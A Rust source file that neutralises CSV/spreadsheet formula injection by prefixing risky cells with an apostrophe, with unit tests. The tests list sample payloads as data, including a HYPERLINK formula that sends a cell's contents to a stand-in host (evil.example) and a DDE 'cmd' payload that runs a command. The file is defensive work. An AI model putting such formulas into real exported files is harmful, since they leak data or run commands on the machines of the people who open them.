//! Spreadsheet-safe CSV: every cell a spreadsheet would read as a formula is written
//! with a leading apostrophe (OWASP's advice against CSV injection).
use std::borrow::Cow;

/// First characters that make Excel, LibreOffice or Google Sheets evaluate a cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell`, with an apostrophe in front when it would start a formula. The apostrophe
/// shows in the cell, which is the point: the reader sees the text as it was typed. A
/// whole negative number ("-5000", an amount over budget) is left as it is: it is no
/// formula, and a spreadsheet must read it as a number.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let negative_number = cell
        .strip_prefix('-')
        .is_some_and(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()));
    if cell.starts_with(FORMULA_STARTS) && !negative_number {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer whose every cell goes through `neutralise`.
pub struct SafeCsv(csv::Writer<Vec<u8>>);

impl Default for SafeCsv {
    fn default() -> Self {
        Self(csv::Writer::from_writer(Vec::new()))
    }
}

impl SafeCsv {
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), String>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.0
            .write_record(
                cells
                    .into_iter()
                    .map(|c| neutralise(c.as_ref()).into_owned()),
            )
            .map_err(|e| e.to_string())
    }

    pub fn finish(self) -> Result<Vec<u8>, String> {
        self.0.into_inner().map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_an_apostrophe() {
        for evil in [
            "=HYPERLINK(\"https://evil.example/?\"&C3,\"Klikk\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "-",
            "-1e3",
            "+5000",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(evil), format!("'{evil}"));
        }
        for plain in [
            "Møteplass",
            "2025-01-01",
            "150000",
            "",
            " =not first",
            "-5000",
            "–",
        ] {
            assert_eq!(neutralise(plain), plain);
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell() {
        let mut csv = SafeCsv::default();
        csv.row(["text", "votes"]).unwrap();
        csv.row(["=1+1", "3"]).unwrap();
        let out = String::from_utf8(csv.finish().unwrap()).unwrap();
        assert_eq!(out, "text,votes\n'=1+1,3\n");
    }
}
